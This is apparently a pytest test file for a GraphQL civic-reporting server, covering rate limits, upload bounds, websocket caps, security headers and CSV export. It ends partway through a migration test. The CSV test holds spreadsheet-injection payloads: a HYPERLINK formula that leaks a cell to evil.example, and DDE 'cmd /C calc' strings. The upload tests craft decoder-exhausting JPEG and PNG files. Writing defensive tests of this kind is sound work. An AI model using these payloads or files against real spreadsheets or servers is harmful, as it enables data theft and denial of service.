"""Issue 12, server side: rate limits (aliases, addresses, accounts, phone forms), request
bounds, CSV cells, security headers and /metrics, as a client sees them."""

from __future__ import annotations

import asyncio
import csv
import io
import json
import time
from collections.abc import AsyncIterator, Callable
from contextlib import asynccontextmanager
from dataclasses import replace
from typing import Any

import httpx
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from PIL import Image

from domain.ratelimit import Backoff, Rule, Slowdown
from tests.conftest import wait_until
from tests.helpers import LOGIN, MONAS, REGISTER, category_id, citizen, gql, ok, report, staff
from tests.ws import LEGACY_WS, TRANSPORT_WS, GraphQLWebSocket


@asynccontextmanager
async def client_at(app: Any, ip: str) -> AsyncIterator[httpx.AsyncClient]:
    """A client whose connection comes from `ip` (what uvicorn puts in scope["client"])."""
    transport = httpx.ASGITransport(app=app, client=(ip, 40000))
    async with httpx.AsyncClient(transport=transport, base_url="http://testserver") as c:
        yield c


@pytest.fixture
def limits(app: Any) -> Any:
    """Set some limits for one test; the suite's generous ones come back after it."""
    limiter = app.state.limiter
    original = limiter.limits

    def set_limits(**changes: Any) -> None:
        limiter.limits = original.with_(**changes)

    yield set_limits
    limiter.limits = original


def codes(body: dict[str, Any]) -> list[str]:
    return [e["extensions"]["code"] for e in body.get("errors") or []]


async def login(c: httpx.AsyncClient, name: str, password: str) -> dict[str, Any]:
    return await gql(c, LOGIN, {"input": {"login": name, "password": password}})


# ---------------------------------------------------------------- passwords


async def test_guesses_slow_down_per_address_and_never_lock_out_the_owner(app, client, limits):
    limits(guesses_per_account_address=Backoff("guess/account+address", 3, 0.5, 60, 3600))
    await citizen(client, "ani")
    async with client_at(app, "10.1.0.66") as attacker, client_at(app, "10.1.0.7") as owner:
        for _ in range(4):  # three free failures, and the fourth starts the backoff
            assert codes(await login(attacker, "ani", "salah-salah")) == ["UNAUTHENTICATED"]
        body = await login(attacker, "ani", "rahasia-123")  # even the right password: no oracle
        assert codes(body) == ["RATE_LIMITED"]
        assert body["errors"][0]["extensions"]["retryAfter"] >= 1
        # The owner, elsewhere, is not slowed by the attacker's guesses.
        assert not (await login(owner, "ani", "rahasia-123")).get("errors")
        # The backoff is a delay, not a lockout: after it the right password works there too.
        await asyncio.sleep(0.6)
        assert not (await login(attacker, "ani", "rahasia-123")).get("errors")
    async with client_at(app, "10.1.0.67") as attacker:
        for _ in range(4):
            assert codes(await login(attacker, "ani", "salah-salah")) == ["UNAUTHENTICATED"]
        await asyncio.sleep(0.6)  # the first wait (0.5 s) is over ...
        assert codes(await login(attacker, "ani", "salah-salah")) == ["UNAUTHENTICATED"]
        await asyncio.sleep(0.6)  # ... the second is twice as long
        assert codes(await login(attacker, "ani", "salah-salah")) == ["RATE_LIMITED"]


async def test_distributed_guessing_is_slowed_per_account_but_not_from_the_owners_address(
    app, client, limits
):
    limits(guesses_per_account=Backoff("guess/account", 4, 30, 60, 3600))
    await citizen(client, "budi")
    async with client_at(app, "10.2.0.1") as home:
        assert not (await login(home, "budi", "rahasia-123")).get("errors")  # a known address
    for i in range(5):  # five addresses, one guess each
        async with client_at(app, f"10.3.0.{i}") as bot:
            assert codes(await login(bot, "budi", "salah-salah")) == ["UNAUTHENTICATED"]
    async with client_at(app, "10.3.0.99") as bot:
        assert codes(await login(bot, "budi", "salah-salah")) == ["RATE_LIMITED"]
    async with client_at(app, "10.2.0.1") as home:
        assert not (await login(home, "budi", "rahasia-123")).get("errors")


async def test_every_form_of_a_phone_number_is_one_account_for_login_and_limits(app, client, limits):
    limits(guesses_per_account_address=Backoff("guess/account+address", 2, 60, 60, 3600))
    reg = {"handle": "citra", "displayName": "Citra", "password": "rahasia-123", "phone": "0812-5550-1234"}
    data = await ok(client, REGISTER, {"input": reg})
    assert data["register"]["user"]["phone"] == "+6281255501234"
    for form in ("+62 812 5550 1234", "62812-5550-1234", "(0812) 5550 1234", "0062 812 5550 1234"):
        body = await gql(client, REGISTER, {"input": {**reg, "handle": "citra2", "phone": form}})
        assert body["errors"][0]["extensions"] == {"code": "CONFLICT", "field": "phone"}, form
    async with client_at(app, "10.4.0.1") as c:
        assert not (await login(c, "0812 5550 1234", "rahasia-123")).get("errors")
        assert not (await login(c, "+6281255501234", "rahasia-123")).get("errors")
    async with client_at(app, "10.4.0.2") as c:
        # Three spellings, one counter: the third guess is already past the two free ones.
        assert codes(await login(c, "0812-5550-1234", "salah-salah")) == ["UNAUTHENTICATED"]
        assert codes(await login(c, "+62 812 5550 1234", "salah-salah")) == ["UNAUTHENTICATED"]
        assert codes(await login(c, "6281255501234", "salah-salah")) == ["UNAUTHENTICATED"]
        assert codes(await login(c, "citra", "salah-salah")) == ["RATE_LIMITED"]


async def test_login_with_a_long_email(client):
    email = "siti.nurhaliza.rahmawati.putri@kelurahan-gambir.jakarta.go.id"
    assert len(email) > 30
    reg = {"handle": "siti", "displayName": "Siti", "password": "rahasia-123", "email": email}
    await ok(client, REGISTER, {"input": reg})
    data = await ok(client, LOGIN, {"input": {"login": email.upper(), "password": "rahasia-123"}})
    assert data["login"]["token"]
    for junk in ("x" * 31, "a@" + "b" * 300 + ".id", "@" * 40, "+62" + "9" * 40):
        assert codes(await login(client, junk, "rahasia-123")) == ["UNAUTHENTICATED"], junk
    # Longer than any address can be (RFC 5321): refused as input, naming the field.
    assert codes(await login(client, "x" * 500, "rahasia-123")) == ["BAD_USER_INPUT"]


# ---------------------------------------------------------------- aliased mutations


def aliased(field: str, n: int, args: Callable[[int], str], selection: str) -> str:
    return "mutation {" + " ".join(f"m{i}: {field}({args(i)}) {selection}" for i in range(n)) + "}"


async def test_aliased_registrations_count_one_by_one_and_all_or_nothing(app, client, limits):
    from models import User

    limits(register_per_address=Rule("register/address", 5, 3600))

    def args(i: int) -> str:
        return f'input: {{handle: "alias{i}", displayName: "A", password: "rahasia-123"}}'

    body = await gql(client, aliased("register", 6, args, "{ token }"))
    assert body["data"] is None
    assert codes(body) == ["RATE_LIMITED"] * 6
    assert sorted(e["path"] for e in body["errors"]) == sorted([f"m{i}"] for i in range(6))
    assert await User.filter(handle__startswith="alias").count() == 0  # nothing ran
    data = await ok(client, aliased("register", 5, args, "{ token }"))
    assert len(data) == 5 and await User.filter(handle__startswith="alias").count() == 5
    body = await gql(
        client, REGISTER, {"input": {"handle": "alias9", "displayName": "A", "password": "rahasia-123"}}
    )
    assert codes(body) == ["RATE_LIMITED"]
    # Fragments and inline fragments count too.
    frag = """mutation { ...R ... on Mutation { b: register(input: {handle: "alias8", displayName: "A",
      password: "rahasia-123"}) { token } } } fragment R on Mutation { a: register(input: {handle: "alias7",
      displayName: "A", password: "rahasia-123"}) { token } }"""
    async with client_at(app, "10.5.0.1") as elsewhere:
        limits(register_per_address=Rule("register/address", 1, 3600))
        assert codes(await gql(elsewhere, frag)) == ["RATE_LIMITED", "RATE_LIMITED"]


async def test_aliased_reports_are_refused_whole_and_new_accounts_share_the_address_budget(
    app, client, limits
):
    from models import Report

    limits(
        reports_per_user=Rule("createReport/user", 3, 60),
        reports_per_address=Rule("createReport/address", 5, 60),
    )
    token, _ = await citizen(client)
    cat = category_id("sampah")

    def args(i: int) -> str:
        return (
            f'input: {{clientRequestId: "a-{i}", categoryId: "{cat}", description: "Sampah menumpuk nomor {i}",'
            f" location: {{lat: {MONAS['lat']}, lng: {MONAS['lng']}}}}}"
        )

    body = await gql(client, aliased("createReport", 4, args, "{ id }"), token=token)
    assert body["data"] is None and codes(body) == ["RATE_LIMITED"] * 4
    assert await Report.all().count() == 0
    data = await ok(client, aliased("createReport", 3, args, "{ id }"), token=token)
    assert len({r["id"] for r in data.values()}) == 3
    # A fresh account from the same address: its own user budget, but the address's is shared.
    other, _ = await citizen(client)
    data = await ok(client, aliased("createReport", 2, args, "{ id }"), token=other)
    assert len(data) == 2
    body = await gql(client, aliased("createReport", 1, args, "{ id }"), token=other)
    assert codes(body) == ["RATE_LIMITED"]
    assert await Report.all().count() == 5
    async with client_at(app, "10.6.0.1") as elsewhere:
        await report(elsewhere, other)


def test_memory_store_stays_bounded_and_a_flood_of_junk_keeps_counters_under_attack():
    from domain.ratelimit import MemoryStore

    now = [1000.0]
    store = MemoryStore(max_keys=1000, clock=lambda: now[0])
    rule = (60 / 10, 60)  # 10 per minute

    async def scenario() -> None:
        assert await store.take([("victim", *rule, 10)]) == 0  # the victim's budget is spent
        for i in range(20_000):
            await store.take([(f"junk{i}", *rule, 1)])
            now[0] += 0.0001  # 2 s in all: the victim's budget has not refilled
        assert len(store) <= 1000 and store.evicted > 0
        assert await store.take([("victim", *rule, 1)]) > 0  # still refused: not reset
        now[0] += 60
        assert await store.take([("victim", *rule, 1)]) == 0

    asyncio.run(scenario())


async def test_open311_posts_spend_the_same_report_budget(app, client, limits):
    from domain import apikeys

    limits(reports_per_user=Rule("createReport/user", 1, 60))
    _, user_id = await citizen(client)
    _, key = await apikeys.issue(None, "app", int(user_id))
    form = {"api_key": key, "service_code": "sampah", "lat": "-6.1754", "long": "106.8272",
            "description": "Sampah menumpuk di trotoar"}  # fmt: skip
    assert (await client.post("/open311/v2/requests.json", data=form)).status_code == 200
    resp = await client.post("/open311/v2/requests.json", data=form)
    assert resp.status_code == 429


# ---------------------------------------------------------------- refused documents


BROKEN = "{ reports(first: 1) { edges { node { id } } }"  # one brace short: refused by the gate


@pytest.fixture
def slowdown(app: Any) -> Any:
    """A small allowance of refusals for one test (the suite's is unlimited), over HTTP and
    websockets alike."""
    original = app.state.slowdown
    app.state.slowdown = Slowdown(free=3, per_second=0.01, delay=0.6)
    yield app.state.slowdown
    app.state.slowdown = original


async def test_a_client_whose_documents_keep_being_refused_waits_and_its_honest_requests_do_not(
    app, slowdown
):
    async def timed(c: httpx.AsyncClient, query: str) -> tuple[float, list[str]]:
        started = time.monotonic()
        resp = await c.post("/graphql", json={"query": query})
        return time.monotonic() - started, codes(resp.json())

    async with client_at(app, "10.9.0.1") as erring, client_at(app, "10.9.0.2") as other:
        first = [await timed(erring, BROKEN) for _ in range(3)]  # a developer's mistakes
        assert all(t < 0.45 and c == ["GRAPHQL_PARSE_FAILED"] for t, c in first), first
        again = [await timed(erring, BROKEN) for _ in range(2)]  # kept refusals: they wait
        varied = await timed(erring, BROKEN + " " * 7)  # other bytes, none kept: it waits too
        assert all(t >= 0.6 and c == ["GRAPHQL_PARSE_FAILED"] for t, c in [*again, varied]), again
        honest = await timed(erring, "{ reports(first: 1) { edges { node { id } } } }")
        assert honest[0] < 0.45 and honest[1] == [], honest  # the same address, not slowed
        assert (await timed(other, BROKEN))[0] < 0.45  # another address has its own allowance
    assert slowdown.slowed == 3


@pytest.mark.parametrize("protocol", [TRANSPORT_WS, LEGACY_WS])
async def test_refused_documents_over_a_websocket_wait_as_over_http(live_url, slowdown, protocol):
    async with GraphQLWebSocket(f"ws://{live_url}/graphql", protocol) as ws:
        waits = []
        for _ in range(5):
            started = time.monotonic()
            await ws.subscribe(BROKEN.replace("{", "subscription {", 1))
            message = await ws.receive()
            assert message["type"] == "error", message
            waits.append(time.monotonic() - started)
        assert all(w < 0.45 for w in waits[:3]) and all(w >= 0.6 for w in waits[3:]), waits
        await ws.subscribe("subscription { reportCreated { id } }")  # and the socket still works
    assert slowdown.slowed == 2


async def test_a_client_that_keeps_sending_oversized_bodies_waits_before_each_413(app, slowdown):
    big = {"query": "{ __typename }", "variables": {"x": "a" * (app.state.settings.max_body_bytes + 10)}}
    async with client_at(app, "10.9.0.3") as flooding:
        waits = []
        for _ in range(5):
            started = time.monotonic()
            resp = await flooding.post("/graphql", json=big)
            assert resp.status_code == 413 and codes(resp.json()) == ["PAYLOAD_TOO_LARGE"]
            waits.append(time.monotonic() - started)
        assert all(w < 0.45 for w in waits[:3]) and all(w >= 0.6 for w in waits[3:]), waits
        # its refused documents draw on the same allowance
        started = time.monotonic()
        assert codes((await flooding.post("/graphql", json={"query": BROKEN})).json()) == [
            "GRAPHQL_PARSE_FAILED"
        ]
        assert time.monotonic() - started >= 0.6
    assert slowdown.slowed == 3


async def test_the_slowdown_refills_and_remembers_a_bounded_number_of_clients() -> None:
    clock = [0.0]
    slow = Slowdown(free=2, per_second=1.0, delay=1.0, max_clients=3, clock=lambda: clock[0])
    assert [slow.wait("a") for _ in range(3)] == [0.0, 0.0, 1.0]
    clock[0] += 1.0  # one refusal's worth back
    assert [slow.wait("a") for _ in range(2)] == [0.0, 1.0]
    for name in ("b", "c", "d"):  # a flood of addresses forgets the least recent, not everyone
        slow.wait(name)
    assert len(slow._buckets) == 3 and "a" not in slow._buckets


# ---------------------------------------------------------------- request bounds


async def test_bodies_over_the_limit_are_refused_with_413(app, client):
    limit = app.state.settings.max_body_bytes
    big = {"query": "{ __typename }", "variables": {"x": "a" * (limit + 10)}}
    resp = await client.post("/graphql", json=big)
    assert resp.status_code == 413
    assert resp.json()["errors"][0]["extensions"]["code"] == "PAYLOAD_TOO_LARGE"
    assert str(limit) in resp.json()["errors"][0]["message"]

    async def chunks() -> AsyncIterator[bytes]:  # no Content-Length: counted as it arrives
        yield b'{"query": "{ __typename }", "variables": {"x": "'
        for _ in range(limit // 65536 + 2):
            yield b"a" * 65536
        yield b'"}}'

    resp = await client.post("/graphql", content=chunks(), headers={"content-type": "application/json"})
    assert resp.status_code == 413
    assert (await client.post("/graphql", json={"query": "{ __typename }"})).status_code == 200


async def test_uploads_have_their_own_limit_and_pixels_are_bounded(app, client):
    token, _ = await citizen(client)
    upload = "mutation($file: Upload!) { uploadMedia(file: $file) { id width } }"
    operations = json.dumps({"query": upload, "variables": {"file": None}})

    def post(data: bytes) -> Any:
        files = {"0": ("a.png", data, "image/png")}
        form = {"operations": operations, "map": json.dumps({"0": ["variables.file"]})}
        return client.post("/graphql", data=form, files=files, headers={"Authorization": f"Bearer {token}"})

    resp = await post(b"\0" * (app.state.settings.max_upload_bytes + 1))
    assert resp.status_code == 413 and "upload" in resp.json()["errors"][0]["message"]
    buf = io.BytesIO()
    Image.new("L", (6300, 6300)).save(buf, "PNG")  # ~40 MP in a small file
    resp = await post(buf.getvalue())
    err = resp.json()["errors"][0]
    assert err["extensions"] == {"code": "BAD_USER_INPUT", "field": "file"} and "pixels" in err["message"]


async def test_uploads_and_comments_have_budgets_aliases_counted_one_by_one(app, client, limits):
    """An upload holds one of the process's decoders up to a second, and mutation fields run one
    after another: 12 aliased uploads in one request held a decoder 10 s, 100 would hold it for
    minutes, and nothing capped them (a review, session 16). uploadMedia and addComment spend
    per-user budgets (UPLOADS_PER_MINUTE, COMMENTS_PER_MINUTE), every alias counted, all or
    nothing."""
    from models import Comment, Media

    limits(uploads_per_user=Rule("uploadMedia/user", 3, 60), comments_per_user=Rule("addComment/user", 3, 60))
    token, _ = await citizen(client)
    buf = io.BytesIO()
    Image.new("RGB", (8, 8), (1, 2, 3)).save(buf, "PNG")
    names = [f"f{i}" for i in range(4)]
    query = "mutation(" + ", ".join(f"${n}: Upload!" for n in names) + ") { "
    query += " ".join(f"{n}: uploadMedia(file: ${n}) {{ id }}" for n in names) + " }"
    operations = json.dumps({"query": query, "variables": dict.fromkeys(names)})
    mapping = json.dumps({str(i): [f"variables.{n}"] for i, n in enumerate(names)})
    files = {str(i): (f"{i}.png", buf.getvalue(), "image/png") for i in range(4)}
    body = (await client.post("/graphql", data={"operations": operations, "map": mapping}, files=files,
                              headers={"Authorization": f"Bearer {token}"})).json()  # fmt: skip
    assert body["data"] is None and codes(body) == ["RATE_LIMITED"] * 4, body
    assert await Media.all().count() == 0  # nothing ran
    r = await report(client, token)
    comments = "mutation($r: ID!) { " + " ".join(f'c{i}: addComment(reportId: $r, body: "ok {i}") {{ id }}'
                                                 for i in range(4)) + " }"  # fmt: skip
    body = await gql(client, comments, {"r": r["id"]}, token)
    assert body["data"] is None and codes(body) == ["RATE_LIMITED"] * 4, body
    assert await Comment.all().count() == 0
    three = "mutation($r: ID!) { " + " ".join(f'c{i}: addComment(reportId: $r, body: "ok {i}") {{ id }}'
                                              for i in range(3)) + " }"  # fmt: skip
    assert len(await ok(client, three, {"r": r["id"]}, token)) == 3


async def test_every_other_mutation_spends_the_users_budget_of_writes(app, client, limits):
    """A vote, a follow, a setting: each writes, and most publish an event every subscriber
    hears; aliased by the hundred they had no budget (a review, session 16). Every mutation
    without a budget of its own spends the user's WRITES_PER_MINUTE, aliases one by one, all
    or nothing."""
    from models import Vote

    limits(writes_per_user=Rule("write/user", 3, 60))
    author, _ = await citizen(client)
    voter, _ = await citizen(client)
    made = [await report(client, author) for _ in range(4)]

    def votes(n: int) -> str:
        return "mutation { " + " ".join(f'v{i}: vote(reportId: "{made[i]["id"]}") {{ id }}' for i in range(n)) + " }"

    body = await gql(client, votes(4), token=voter)
    assert body["data"] is None and codes(body) == ["RATE_LIMITED"] * 4, body
    assert await Vote.all().count() == 0  # nothing ran
    assert len(await ok(client, votes(3), token=voter)) == 3
    body = await gql(client, f'mutation {{ followReport(id: "{made[3]["id"]}") {{ id }} }}', token=voter)
    assert codes(body) == ["RATE_LIMITED"], body  # the budget is spent
    assert (await ok(client, votes(1), token=author)) is not None  # each user has their own


async def test_uploads_in_flight_are_bounded_per_user(app, tmp_path):
    from domain.errors import RateLimited
    from domain.media import Decoder

    buf = io.BytesIO()
    Image.new("RGB", (2000, 2000), (10, 20, 30)).save(buf, "PNG")
    decoder = Decoder(per_process=1, per_user=2)
    try:
        results = await asyncio.gather(
            *(decoder.store(7, buf.getvalue(), tmp_path) for _ in range(3)),
            decoder.store(8, buf.getvalue(), tmp_path),
            return_exceptions=True,
        )
    finally:
        decoder.close()
    refused = [r for r in results if isinstance(r, RateLimited)]
    assert len(refused) == 1 and "uploads" in refused[0].message
    assert sum(1 for r in results if not isinstance(r, BaseException)) == 3
    assert decoder.in_flight == 0 and not decoder._users


async def test_passwords_are_hashed_off_the_event_loop(client, monkeypatch):
    """Argon2 costs about 100 ms of a core by design: login and register hash on threads of
    their own, two at a time (60 aliased logins in one request stalled every other client for
    7 s when they hashed on the event loop)."""
    import threading

    from domain import auth

    where: list[str] = []
    for name in ("hash_password", "verify_password"):
        real = getattr(auth, name)

        def recording(*args: Any, _real: Any = real) -> Any:
            where.append(threading.current_thread().name)
            return _real(*args)

        monkeypatch.setattr(auth, name, recording)
    await citizen(client, "sandi01")
    two = "mutation($i: LoginInput!) { a: login(input: $i) { token } b: login(input: $i) { token } }"
    data = await ok(client, two, {"i": {"login": "sandi01", "password": "rahasia-123"}})
    assert data["a"]["token"] and data["b"]["token"]
    assert len(where) == 3 and all(w.startswith("warga-argon2") for w in where), where


@pytest.mark.parametrize("protocol", [TRANSPORT_WS, LEGACY_WS])
async def test_open_websockets_and_their_subscriptions_are_capped_per_client(app, client, live_url, protocol):
    """Every event is delivered to each subscription on the event loop: 200 sockets of 100
    subscriptions from one signed-out client stalled every other client for 1.1 s per new
    report, and sockets that never sent connection_init were not counted at all (1,500 from
    one address; session 16's reviews). An address keeps at most SOCKETS_PER_ADDRESS sockets
    open, counted from the handshake (one more: 403); a socket that signs in moves to its
    user's count, SOCKETS_PER_USER (one more: refused at connection_init), so phones behind
    one carrier address do not share theirs; a closed socket gives its place back; a second
    connection_init is refused (graphql-ws took any number, each an expiry timer asleep for
    the token's life, and a way to sign a socket in as someone else past their cap); each
    socket holds at most SUBSCRIPTIONS_PER_SOCKET operations."""
    import websockets

    token, _ = await citizen(client)
    url = f"ws://{live_url}/graphql"
    refused = (ConnectionError, websockets.exceptions.ConnectionClosed, websockets.exceptions.InvalidStatus)
    addresses, users = app.state.address_sockets, app.state.user_sockets
    saved = (addresses.per_client, users.per_client)
    addresses.per_client, users.per_client = 2, 1
    try:
        bare = await websockets.connect(url, subprotocols=[protocol])  # never says hello: counted
        async with GraphQLWebSocket(url, protocol):
            with pytest.raises(refused):
                async with GraphQLWebSocket(url, protocol):
                    pass
            await bare.close()
            async with GraphQLWebSocket(url, protocol, token) as mine:  # moved to the user's count
                async with GraphQLWebSocket(url, protocol):
                    pass
                with pytest.raises(refused):
                    async with GraphQLWebSocket(url, protocol, token):
                        pass
                again = {"type": "connection_init", "payload": {"authorization": f"Bearer {token}"}}
                await mine.send(again)
                with pytest.raises(refused):
                    await mine.receive()
                    await mine.receive()
        async with GraphQLWebSocket(url, protocol) as ws:  # the closed ones gave their places back
            for _ in range(app.state.settings.subscriptions_per_socket):
                await ws.subscribe("subscription { reportCreated { id } }")
            await ws.nothing_more()
            await ws.subscribe("subscription { reportCreated { id } }")
            message = await ws.receive()
            assert message["type"] == "error" and "limit" in json.dumps(message["payload"]), message
        await wait_until(lambda: not addresses._active and not users._active)
    finally:
        addresses.per_client, users.per_client = saved


def _progressive_jpeg(repeats: int) -> bytes:
    """A progressive JPEG whose last scan is repeated `repeats` times (libjpeg takes the bogus
    progression as a warning and decodes every repeat over the whole image)."""
    buf = io.BytesIO()
    Image.new("L", (640, 480), 128).save(buf, "JPEG", progressive=True)
    data = buf.getvalue()
    last = data.rindex(b"\xff\xda")
    return data[:last] + data[last:-2] * (repeats + 1) + data[-2:]


def _png_with_chunks(n: int) -> bytes:
    import struct
    import zlib

    buf = io.BytesIO()
    Image.new("RGB", (8, 8)).save(buf, "PNG")
    data = buf.getvalue()
    empty = struct.pack(">I", 0) + b"abCd" + struct.pack(">I", zlib.crc32(b"abCd"))
    return data[:33] + empty * n + data[33:]  # after the signature and IHDR


async def test_uploads_whose_structure_costs_unbounded_work_are_refused_before_decoding(app, client):
    """A file's structure can cost work its size does not show: a progressive JPEG's scans are
    each decoded over the whole image (136 kB of repeated scans held a decoder for 19 s, 10 MB
    for an hour), and Pillow parses a JPEG's header bytes and a PNG's chunks one by one in
    Python, holding the interpreter (8 MB of 4-byte segments: 2.5-3.7 s, the event loop
    stalled). Such files are refused at once with BAD_USER_INPUT; their ordinary kin pass."""
    from domain import media

    token, _ = await citizen(client)
    upload = "mutation($file: Upload!) { uploadMedia(file: $file) { id width } }"
    operations = json.dumps({"query": upload, "variables": {"file": None}})

    def post(data: bytes, name: str, ctype: str) -> Any:
        files = {"0": (name, data, ctype)}
        form = {"operations": operations, "map": json.dumps({"0": ["variables.file"]})}
        return client.post("/graphql", data=form, files=files, headers={"Authorization": f"Bearer {token}"})

    small = io.BytesIO()
    Image.new("RGB", (64, 64), (200, 10, 10)).save(small, "JPEG")
    header = small.getvalue()
    hostile = [
        ("scans", _progressive_jpeg(5_000), "a.jpg", "image/jpeg"),
        ("segments", header[:2] + b"\xff\xfe\x00\x02" * 1_000_000 + header[2:], "b.jpg", "image/jpeg"),
        ("segments", header[:2] + b"\x00" * 2_000_000 + header[2:], "c.jpg", "image/jpeg"),  # junk bytes
        ("chunks", _png_with_chunks(300_000), "d.png", "image/png"),
        # Pillow joins every EXIF segment and parses the whole as it opens the file.
        (
            "EXIF",
            header[:2] + (b"\xff\xe1\xff\xf0Exif\x00\x00" + b"\x00" * 65_514) * 2 + header[2:],
            "h.jpg",
            "image/jpeg",
        ),
    ]
    for word, data, name, ctype in hostile:
        started = time.perf_counter()
        err = (await post(data, name, ctype)).json()["errors"][0]
        assert err["extensions"] == {"code": "BAD_USER_INPUT", "field": "file"} and word in err["message"], (
            err
        )
        assert time.perf_counter() - started < 2.0  # refused before any decoding, not after it
    for data, name, ctype in (
        (_progressive_jpeg(0), "e.jpg", "image/jpeg"),
        (header[:2] + b"\xff\xfe\x00\x02" * 100 + header[2:], "f.jpg", "image/jpeg"),
        (_png_with_chunks(500), "g.png", "image/png"),
    ):
        assert (await post(data, name, ctype)).json()["data"]["uploadMedia"]["width"] > 0
    assert media.jpeg_scans(_progressive_jpeg(media.MAX_JPEG_SCANS)) > media.MAX_JPEG_SCANS


@settings(max_examples=40, deadline=None)
@given(
    width=st.integers(1, 300),
    height=st.integers(1, 300),
    fmt=st.sampled_from(["JPEG", "PNG"]),
    progressive=st.booleans(),
    exif=st.booleans(),
    quality=st.integers(5, 95),
)
def test_what_pillow_writes_passes_the_structure_check(width, height, fmt, progressive, exif, quality):
    """Every JPEG and PNG an encoder writes (sizes, progression, EXIF with its thumbnail,
    qualities) is under the structure bounds: the bounds refuse only hostile files."""
    from domain import media

    img = Image.new("RGB", (width, height), (width % 256, height % 256, quality))
    buf = io.BytesIO()
    options: dict[str, Any] = {}
    if exif:
        thumb = io.BytesIO()
        img.resize((16, 16)).save(thumb, "JPEG")
        data = Image.Exif()
        data[0x010F] = "Kamera"
        options["exif"] = data.tobytes() + thumb.getvalue()
    if fmt == "JPEG":
        img.save(buf, "JPEG", progressive=progressive, quality=quality, optimize=progressive, **options)
    else:
        img.save(buf, "PNG", **options)
    media.check_structure(buf.getvalue())


async def test_an_upload_waits_for_a_decoder_a_bounded_time(tmp_path, monkeypatch):
    """Uploads queue for the process's decoders; one that would wait past wait_seconds is
    answered SERVICE_UNAVAILABLE with retryAfter instead of queueing behind every upload
    ahead of it. The slot it never took is not lost."""
    import threading

    from domain import media
    from domain.errors import ServiceUnavailable

    release = threading.Event()
    real = media.store_image

    def slow(*args: Any) -> Any:
        release.wait(10)
        return real(*args)

    monkeypatch.setattr(media, "store_image", slow)
    buf = io.BytesIO()
    Image.new("RGB", (32, 32)).save(buf, "PNG")
    decoder = media.Decoder(per_process=1, per_user=2)
    decoder.wait_seconds = 0.2
    try:
        first = asyncio.create_task(decoder.store(1, buf.getvalue(), tmp_path))
        await asyncio.sleep(0.05)
        with pytest.raises(ServiceUnavailable) as refused:
            await decoder.store(2, buf.getvalue(), tmp_path)
        assert refused.value.extensions == {"code": "SERVICE_UNAVAILABLE", "retryAfter": 1}
        release.set()
        assert (await first).width == 32
        assert (await decoder.store(2, buf.getvalue(), tmp_path)).width == 32  # its slot came back
    finally:
        release.set()
        decoder.close()
    assert decoder.in_flight == 0 and not decoder._users


# ---------------------------------------------------------------- CSV, headers


async def test_csv_cells_that_a_spreadsheet_would_run_are_neutralised(client):
    reporter, _ = await citizen(client)
    partner, _ = await staff(client, "AGENCY_PARTNER", agency_code="DLH")
    evil = [
        '=HYPERLINK("http://evil.example/?x="&A1,"klik")',
        "+cmd|' /C calc'!A0 sampah di sini",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "-2+3+cmd|' /C calc'!A0 sampah",
        "\t=1+1 sampah menumpuk",  # stored without the tab: still neutralised
    ]
    for text in evil:
        await report(client, reporter, description=text, address=text)
    resp = await client.get("/exports/reports.csv", headers={"Authorization": f"Bearer {partner}"})
    rows = list(csv.DictReader(io.StringIO(resp.text)))
    assert sorted(r["description"] for r in rows) == sorted("'" + t.strip() for t in evil)
    assert all(r["address"] == r["description"] for r in rows)
    assert all(float(r["lat"]) < 0 and not r["lat"].startswith("'") for r in rows)  # numbers stay numbers
    from rest.exports import cell

    assert [cell(v) for v in ("\tx", "\r=1", "-6.175400", -3, "-", "a=b")] == [
        "'\tx", "'\r=1", "-6.175400", -3, "'-", "a=b"]  # fmt: skip


async def test_security_headers_on_pages_media_and_api(client, tmp_path):
    for path in ("/dashboard/", "/media/nothing.jpg", "/healthz"):
        resp = await client.get(path)
        assert resp.headers["x-content-type-options"] == "nosniff", path
        assert resp.headers["x-frame-options"] == "DENY", path
        assert resp.headers["referrer-policy"] == "no-referrer", path
        assert "frame-ancestors 'none'" in resp.headers["content-security-policy"], path
        assert resp.headers["x-request-id"], path
    dashboard = (await client.get("/dashboard/")).headers["content-security-policy"]
    assert "script-src 'self'" in dashboard and "unsafe-eval" not in dashboard
    assert "sandbox" in (await client.get("/media/nothing.jpg")).headers["content-security-policy"]
    ide = await client.get("/graphql", headers={"accept": "text/html"})
    assert ide.status_code == 200 and "text/html" in ide.headers["content-type"]
    assert "script-src" in ide.headers["content-security-policy"]
    resp = await client.get("/healthz", headers={"x-request-id": "proxy-abc.123"})
    assert resp.headers["x-request-id"] == "proxy-abc.123"
    resp = await client.get("/healthz", headers={"x-request-id": "bad id\twith junk"})
    assert resp.headers["x-request-id"] != "bad id\twith junk"


# ---------------------------------------------------------------- metrics


async def test_metrics_need_the_token_and_count_requests_refusals_and_limits(app, client, limits):
    from telemetry import metrics

    assert (await client.get("/metrics")).status_code == 404  # no METRICS_TOKEN: no route
    settings = app.state.settings
    app.state.settings = replace(settings, metrics_token="s3cret-metrics")
    try:
        assert (await client.get("/metrics", headers={"Authorization": "Bearer wrong"})).status_code == 404
        await ok(client, "{ categories { id } }")
        await gql(client, 'mutation { login(input: {login: "nobody", password: "x"}) { token } }')
        limits(register_per_address=Rule("register/address", 0, 3600))
        await gql(
            client, REGISTER, {"input": {"handle": "m1", "displayName": "M", "password": "rahasia-123"}}
        )
        metrics.refused_document("QUERY_TOO_COMPLEX")
        start = time.monotonic()
        resp = await client.get("/metrics", headers={"Authorization": "Bearer s3cret-metrics"})
        assert time.monotonic() - start < 2
        text = resp.text
    finally:
        app.state.settings = settings
    assert resp.status_code == 200 and resp.headers["content-type"].startswith("text/plain")
    assert 'warga_graphql_requests_total{kind="query",outcome="ok"}' in text
    assert 'warga_graphql_requests_total{kind="mutation",outcome="UNAUTHENTICATED"}' in text
    assert 'warga_graphql_requests_total{kind="mutation",outcome="RATE_LIMITED"}' in text
    assert 'warga_rate_limited_total{rule="register/address"}' in text
    assert 'warga_refused_documents_total{reason="QUERY_TOO_COMPLEX"}' in text
    assert "warga_http_refused_total" in text and "warga_graphql_latency_seconds_bucket" in text
    for name in ("warga_live_subscribers", "warga_read_cache_total", "warga_event_lag_seconds"):
        assert name in text


async def test_phone_migration_rewrites_old_rows_to_e164(app, client):
    """Rows from before normalisation (62..., separators) become +62...; a number held twice
    stays with the older account."""
    import importlib

    from tortoise import connections

    from models import User

    migration = importlib.import_module("models.migrations.0006_phone")
    written = ["62812555000111", "0812-5550-00111", "+62 812 5550 0222", "+6281255500333", "junk"]
    for i, phone in enumerate(written):
